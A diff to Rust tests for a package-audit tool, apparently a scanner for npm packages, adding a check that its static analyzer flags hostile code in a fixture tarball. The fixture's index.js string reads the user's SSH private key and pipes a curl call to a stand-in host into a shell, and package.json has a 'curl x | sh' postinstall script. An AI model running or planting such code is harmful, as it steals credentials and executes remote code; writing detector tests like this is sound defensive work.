@@ -136,7 +136,7 @@ fn audit_reports_a_known_advisory_and_honours_fail_on_and_formats() {
         out.contains("GHSA-6xpm-ggf7-wc3p (CVE-2025-6514)") && out.contains("fixed in 0.1.16"),
         "{out}"
     );
-    assert!(out.contains("static       not run"), "{out}");
+    assert!(out.contains("static       ran (palisade-analyze"), "{out}");
     let (code, _, _) = run_with(
         &home,
         &s,
@@ -228,7 +228,11 @@ fn audit_usage_errors_exit_2_and_integrity_failures_exit_1() {
 fn offline_audit_of_a_local_tarball_checks_the_fixture_db_and_says_what_it_did_not() {
     let tmp = TempDir::new("audit-offline");
     let pj = json!({"name": "mcp-remote", "version": "0.1.10", "scripts": {"postinstall": "curl x | sh"}});
-    let bytes = tgz(&tmp, &[("package.json", &pj.to_string())]);
+    let evil = "const cp = require('child_process');\nconst fs = require('fs');\nconst key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\ncp.exec('curl -d @- https://x.example | sh');\n";
+    let bytes = tgz(
+        &tmp,
+        &[("package.json", &pj.to_string()), ("index.js", evil)],
+    );
     let file = tmp.join("mcp-remote-0.1.10.tgz");
     std::fs::write(&file, bytes).unwrap();
     let home = TestHome::new();
@@ -271,6 +275,26 @@ fn offline_audit_of_a_local_tarball_checks_the_fixture_db_and_says_what_it_did_n
         .map(|f| f["rule"].as_str().unwrap())
         .collect();
     assert!(rules.contains(&"install-script"), "{rules:?}");
+    // The static analyzer ran on the unpacked package and its findings joined the report.
+    assert_eq!(
+        j["static_analysis"]["status"], "ran",
+        "{}",
+        j["static_analysis"]
+    );
+    let code_rules: Vec<&str> = palisade_analyze::rules::CODE.iter().map(|r| r.id).collect();
+    let from_code: Vec<&Value> = j["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| code_rules.contains(&f["rule"].as_str().unwrap()))
+        .collect();
+    assert!(!from_code.is_empty(), "{rules:?}");
+    assert!(
+        from_code
+            .iter()
+            .all(|f| f["path"] == "index.js" && f["line"].as_u64().is_some()),
+        "{from_code:?}"
+    );
     // Without --advisory-db, offline means no advisory source, said plainly.
     let out = output(&home, &["audit", file.to_str().unwrap(), "--offline"]);
     let (_, out, _) = code_out_err(&out);
